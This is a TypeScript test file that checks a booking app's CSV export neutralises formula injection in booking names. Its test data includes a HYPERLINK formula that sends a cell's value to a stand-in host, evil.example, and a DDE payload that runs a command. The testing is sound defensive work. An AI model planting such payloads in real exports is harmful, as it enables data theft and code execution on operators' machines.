import { afterAll, beforeAll, expect, it } from 'vitest';
import { bearer, createTestApp, type TestApp } from '../support/app';
import { createSiteFixture, nik } from '../support/site-fixture';

// A citizen types the booking name; the operator opens the day's export in a spreadsheet.
let t: TestApp;
let f: Awaited<ReturnType<typeof createSiteFixture>>;

beforeAll(async () => {
  t = await createTestApp();
  f = await createSiteFixture(t, { settings: { booking: { perIpPerHour: 10_000 } } });
});
afterAll(async () => t?.close());

it('exports booking names that look like formulas as text (CSV injection)', async () => {
  const names = ['=HYPERLINK("http://evil.example/?d="&A2,"Klik")', '@SUM(1+1)*cmd|/C calc!A0', '+62 Budi'];
  for (const [i, name] of names.entries()) {
    const start = `2026-11-26T${String(8 + i).padStart(2, '0')}:00:00+08:00`;
    const res = await t.app.inject({ method: 'POST', url: `/api/v1/sites/${f.siteId}/bookings`, payload: { serviceId: f.services.paspor, start, name, nik: nik(40 + i) }, remoteAddress: '10.0.0.1' });
    expect(res.statusCode, res.body).toBe(201);
  }
  const admin = await t.userToken({ memberships: [{ role: 'site_admin', siteId: f.siteId, agencyId: null }] });
  const csv = await t.app.inject({ url: `/api/v1/sites/${f.siteId}/bookings/export?date=2026-11-26&format=csv`, headers: bearer(admin) });
  expect(csv.statusCode).toBe(200);
  const lines = csv.body.split('\r\n');
  expect(lines[0]).toBe('Kode,Layanan,Mulai,Selesai,Status,Nama,NIK,Telepon,Check-in,Dipindahkan ke,Pindahan dari');
  expect(lines).toHaveLength(names.length + 2);
  expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A2,""Klik"")"`);
  expect(csv.body).toContain(`,'@SUM(1+1)*cmd|/C calc!A0,`);
  expect(csv.body).toContain(`,'+62 Budi,`);
  // No cell of any row starts with a formula character.
  for (const line of lines.slice(1, -1)) for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+\-@\t\r]/);
});
